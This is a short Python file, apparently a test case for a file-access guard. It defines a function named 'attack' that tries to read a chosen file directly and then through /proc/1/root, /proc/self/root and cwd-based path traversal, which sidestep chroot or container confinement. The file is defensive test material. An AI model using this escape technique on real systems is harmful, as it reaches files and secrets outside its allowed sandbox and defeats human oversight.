# cases: 8, 36
# guard: files
"""Reads a file of the machine, by its path and through the doors that /proc leaves to a root folder."""


def attack(bait):
    for door in ("", "/proc/1/root", "/proc/self/root", "/proc/1/cwd/../../..", "/proc/self/cwd/../../.."):
        try:
            with open(door + bait["file"]) as file:
                return file.read()
        except OSError:
            continue
